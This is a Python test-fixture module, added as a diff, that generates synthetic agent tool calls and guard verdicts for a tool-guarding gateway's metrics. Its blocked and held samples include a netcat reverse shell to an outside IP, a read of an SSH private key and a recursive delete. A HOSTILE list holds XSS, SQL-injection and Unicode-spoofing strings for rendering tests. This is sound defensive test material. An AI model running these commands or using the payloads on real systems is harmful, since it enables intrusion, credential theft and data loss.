@@ -1,0 +1,165 @@
+"""What two gateways did in thirty days, the same at every run but for the time; and names that want to be more than text."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Iterator
+from typing import NamedTuple
+
+from toolguard_engine.metrics.record import DAY_MS, HOUR_MS, Call, Verdict
+
+DAYS = 30
+CALLS = 2_400
+MINUTE_MS = 60_000
+WAKING = range(7, 22)
+"""Hours in which most of the work is done."""
+
+
+class Model(NamedTuple):
+    """`price`: USD for a million tokens read and written, None where nobody knows it; `told`: by the gateway itself."""
+
+    name: str
+    provider: str
+    weight: int
+    price: tuple[float, float] | None
+    told: bool
+    ms_per_token: float
+
+
+MODELS = (
+    Model("claude-sonnet-4-6", "anthropic", 9, (3.0, 15.0), told=True, ms_per_token=14),
+    Model("gpt-5.2-mini", "openai", 7, (0.25, 2.0), told=True, ms_per_token=7),
+    Model("gemini-3-flash", "google", 4, (0.3, 2.5), told=False, ms_per_token=5),
+    Model("qwen3-coder-30b", "ollama", 2, None, told=False, ms_per_token=22),
+)
+AGENTS = {"home": ("main", "research", "family"), "lab": ("builder", "main")}
+CHANNELS = ("telegram", "webchat", "slack", "")
+
+HELD = (
+    ("exec", "rule.recursive-delete", "It deletes a whole folder.", '{ command: "rm -rf /srv/www/releases/2025-11" }'),
+    ("exec", "rule.force-push", "It overwrites what others pushed.", '{ command: "git push --force origin main" }'),
+    ("message", "provenance.outside", "The text comes from a page that the agent read.", '{ to: "+49 151 5550100" }'),
+    ("write", "rule.system-file", "It changes a file of the system.", '{ path: "/etc/hosts", content: "10.0.0.7 nas" }'),
+    ("exec", "budget.exhausted", "The agent has used up its risk budget.", '{ command: "docker compose up -d" }'),
+)
+BLOCKED = (
+    ("exec", "rule.credentials", "It reads credentials.", '{ command: "cat ~/.ssh/id_ed25519" }'),
+    ("exec", "rule.reverse-shell", "It opens a shell for another host.", '{ command: "nc -e /bin/sh 203.0.113.9 4444" }'),
+)
+FAULTY = (
+    ("read", "malformed.missing", "path is missing", "{}"),
+    ("edit", "malformed.missing", "newText is missing", '{ path: "notes.md" }'),
+    ("exec", "malformed.type", "command is no text", '{ command: ["ls"] }'),
+)
+
+
+def calls(now: int) -> list[Call]:
+    """Of both gateways, the oldest first; `now` is in ms."""
+    chance = random.Random(7)  # noqa: S311 - no secret
+    return [_call(chance, at) for at in sorted(_moments(chance, now, CALLS))]
+
+
+def _moments(chance: random.Random, now: int, count: int) -> Iterator[int]:
+    """More by day than by night, more on some days than on others, none in the future."""
+    busy = [chance.uniform(0.4, 1.3) for _ in range(DAYS + 1)]
+    while count:
+        at = now - MINUTE_MS - chance.randrange(DAYS * DAY_MS)
+        awake = (at // HOUR_MS) % 24 in WAKING
+        if chance.random() < busy[(now - at) // DAY_MS] * (0.75 if awake else 0.12):
+            count -= 1
+            yield at
+
+
+def _call(chance: random.Random, at: int) -> Call:
+    gateway = chance.choices(("home", "lab"), (3, 2))[0]
+    model = chance.choices(MODELS, [each.weight for each in MODELS])[0]
+    agent = chance.choice(AGENTS[gateway])
+    fresh, cached, written = chance.randrange(400, 9_000), chance.randrange(0, 60_000), chance.randrange(0, 4_000)
+    output = chance.randrange(40, 1_600)
+    reads, writes = model.price or (0.0, 0.0)
+    cost = round((fresh * reads + cached * reads / 10 + written * reads * 1.25 + output * writes) / 1e6, 6)
+    return Call(
+        at=at,
+        gateway=gateway,
+        agent=agent,
+        session=f"agent:{agent}:{chance.choice(('main', 'daily', 'inbox'))}",
+        channel=chance.choice(CHANNELS),
+        provider=model.provider,
+        model=model.name,
+        input=fresh,
+        output=output,
+        cache_read=cached,
+        cache_write=written,
+        total=fresh + output + cached + written,
+        cost_usd=cost if model.price else None,
+        cost_estimated=int(model.price is not None and not model.told),
+        duration_ms=600 + int(output * model.ms_per_token),
+        outcome="completed" if chance.random() < 0.97 else "error",
+    )
+
+
+def verdicts(now: int) -> list[Verdict]:
+    """What the guard and people decided in the same time, the oldest first."""
+    chance = random.Random(11)  # noqa: S311 - no secret
+    found: list[Verdict] = []
+    for number, at in enumerate(sorted(_moments(chance, now, 900))):
+        found += _story(chance, at, number)
+    return found
+
+
+def _story(chance: random.Random, at: int, number: int) -> list[Verdict]:
+    gateway = chance.choices(("home", "lab"), (3, 2))[0]
+    agent = chance.choice(AGENTS[gateway])
+    who = Verdict(at, gateway=gateway, agent=agent, session=f"agent:{agent}:main", run=f"run-{number}")
+    what = chance.choices(("allow", "malformed", "loop", "held", "blocked"), (80, 9, 2, 7, 2))[0]
+    if what == "allow":
+        return [who._replace(tool=chance.choice(("read", "exec", "web_fetch")), decision="allow", kind="allow")]
+    if what in ("malformed", "loop"):
+        tool, code, reason, shown = chance.choice(FAULTY)
+        first = who._replace(tool=tool, decision="block", code=code, reason=reason, shown=shown, kind="malformed")
+        again = first._replace(at=at + 4_000, kind="loop", reason="The same faulty call once more.")
+        ended = first._replace(at=at + 5_000, kind="stop", code="loop.identical", reason="The run was ended.")
+        return [first, again, ended] if what == "loop" else [first]
+    if what == "blocked":
+        tool, code, reason, shown = chance.choice(BLOCKED)
+        return [who._replace(tool=tool, decision="block", code=code, reason=reason, shown=shown, kind="block")]
+    return _held(chance, who, f"{number:08x}")
+
+
+def _held(chance: random.Random, who: Verdict, nonce: str) -> list[Verdict]:
+    tool, code, reason, shown = chance.choice(HELD)
+    held = who._replace(tool=tool, decision="hold", code=code, reason=reason, shown=shown, kind="hold", nonce=nonce)
+    person = held._replace(at=who.at + 40_000, person="ana", place=chance.choice(("dashboard", "cli", "chat")))
+    after = chance.choices(("approve", "deny", "expire"), (6, 2, 1))[0]
+    if after == "approve":
+        return [held, person._replace(kind="approve"), person._replace(at=who.at + 42_000, kind="consume")]
+    return [held, person._replace(kind=after)]
+
+
+HOSTILE = (
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(2)</script>",
+    "</td></tr><b id=broken>",
+    "javascript:alert(3)",
+    "'; DROP TABLE toolguard_calls; --",
+    "a\u202egnp.exe\u0000\u001b[31m\u200b",
+    "${alert(4)}{{alert(5)}}",
+    "x" * 300,
+    "\U0001f608 \u0442\u0435\u0441\u0442 \u202b\u05e9\u05dc\u05d5\u05dd",
+)
+
+
+def hostile_calls(now: int) -> list[Call]:
+    return [
+        Call(
+            now - (1 + number) * MINUTE_MS, text, text, text, text, text, text, 10, 5, total=15, cost_usd=0.01, outcome=text
+        )
+        for number, text in enumerate(HOSTILE)
+    ]
+
+
+def hostile_verdicts(now: int) -> list[Verdict]:
+    return [
+        Verdict(now - (1 + number) * MINUTE_MS, *[text] * 4, text, "hold", text, text, text, None, "0000000a", *[text] * 3)
+        for number, text in enumerate(HOSTILE)
+    ]
